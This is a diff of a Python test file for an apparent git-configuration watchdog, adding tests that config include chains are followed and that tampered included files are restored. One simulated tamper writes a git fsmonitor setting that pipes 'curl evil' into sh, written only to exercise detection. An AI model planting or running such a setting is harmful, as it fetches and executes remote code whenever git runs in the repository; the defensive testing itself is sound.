@@ -172,7 +172,7 @@ def _next_clock_tick(scratch: Path, after_ns: int) -> None:
 def test_core_hooks_path_is_read_as_git_reads_it(tmp_path: Path) -> None:
     config = tmp_path / "config"
     config.write_text('[core]\n\tbare = false\n[Core "x"]\n[CORE]\n  HooksPath = "my hooks" ; note\n')
-    assert gitconfig.hooks_path([str(tmp_path / "missing"), str(config)]) == "my hooks"
+    assert gitconfig.read([str(tmp_path / "missing"), str(config)], str(tmp_path)).hooks_paths == ("my hooks",)
     result = subprocess.run(["git", "config", "--file", str(config), "core.hooksPath"], capture_output=True,
                             text=True, check=True)
     assert result.stdout.strip() == "my hooks"
@@ -223,3 +223,32 @@ def test_a_hooks_folder_filled_past_what_is_looked_at_is_put_back_whole(workspac
     assert [(p.path, p.change, p.put_back) for p in found] == [("vendor/lib/.git/hooks", Change.CHANGED, True)]
     assert sorted(p.name for p in hooks.iterdir() if not p.name.endswith(".sample")) == ["pre-commit"]
     assert (Path(found[0].kept) / "post-checkout").exists()
+
+
+def test_included_configuration_is_followed_as_git_follows_it(tmp_path: Path) -> None:
+    """Relative to the including file, ``~/`` in the home folder, conditions not evaluated, at
+    most ten deep; every hooks path on the way is reported."""
+    gitconfig.forget()
+    home = tmp_path / "home"
+    (home / "deep").mkdir(parents=True)
+    (tmp_path / "config").write_text('[include]\n\tpath = one.conf\n[includeIf "onbranch:x"]\n\tpath = ~/deep/two\n')
+    (tmp_path / "one.conf").write_text("[core]\n\thooksPath = .one-hooks\n")
+    (home / "deep" / "two").write_text("[include]\n\tpath = ../three\n[core]\n\thooksPath = ~/hooks\n")
+    (home / "three").write_text("[include]\n\tpath = three\n")  # includes itself: read once
+    found = gitconfig.read([str(tmp_path / "config")], str(home))
+    assert found.hooks_paths == (".one-hooks", "~/hooks")
+    assert found.included == (str(tmp_path / "one.conf"), str(home / "deep" / "two"), str(home / "three"))
+    for i in range(15):
+        (tmp_path / f"c{i}").write_text(f"[include]\n\tpath = c{i + 1}\n")
+    chain = gitconfig.read([str(tmp_path / "c0")], str(home)).included
+    assert len(chain) == gitconfig.MAX_INCLUDE_DEPTH + 1
+
+
+def test_a_file_the_repositorys_configuration_includes_is_watched(workspace: Path, tmp_path: Path) -> None:
+    nested = workspace / "vendor" / "lib"
+    subprocess.run(["git", "config", "include.path", "../shared.gitconfig"], cwd=nested, check=True)
+    (nested / "shared.gitconfig").write_text("[user]\n\tname = me\n")
+    found = _check(workspace, tmp_path, lambda: (nested / "shared.gitconfig").write_text(
+        "[core]\n\tfsmonitor = curl evil | sh\n"))
+    assert [(p.path, p.change, p.put_back) for p in found] == [("vendor/lib/shared.gitconfig", Change.CHANGED, True)]
+    assert (nested / "shared.gitconfig").read_text() == "[user]\n\tname = me\n"
